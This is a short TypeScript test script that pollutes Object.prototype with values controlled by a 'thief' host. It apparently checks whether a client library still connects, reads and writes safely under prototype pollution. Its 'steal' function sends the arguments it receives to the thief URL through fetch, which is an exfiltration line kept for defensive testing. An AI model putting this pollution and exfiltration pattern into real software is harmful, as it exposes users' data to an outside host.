import { call, connect, write } from './bench.ts';

/*
 * A process in which somebody has polluted Object.prototype: `node polluted-process.ts <url> <thief> <name> …`. For
 * each name it writes a text, an object and a function of the thief's, makes a client, a read and a write, and cleans
 * up. Its last line is what failed.
 */

const [, , url = '', thief = '', ...names] = process.argv.filter((one) => !one.startsWith('--'));

const steal = (...given: unknown[]): string => {
  void fetch(`${thief}/?${encodeURIComponent(String(given))}`).catch(() => {});
  return thief;
};
const data = [thief, { href: thief, host: new URL(thief).host, url: thief }];
// Node's own streams would call a function of this name.
const valuesOf = (name: string): readonly unknown[] => (name === 'read' ? data : [...data, steal]);

const failed: string[] = [];
for (const name of names) {
  for (const value of valuesOf(name)) {
    Reflect.set(Object.prototype, name, value);
    try {
      const client = connect({ url });
      await call(client);
      await write(client);
      client.close();
    } catch (error) {
      failed.push(`${name} (${typeof value}): ${error instanceof Error ? error.message : error}`);
    } finally {
      Reflect.deleteProperty(Object.prototype, name);
    }
  }
}
console.log(JSON.stringify(failed));
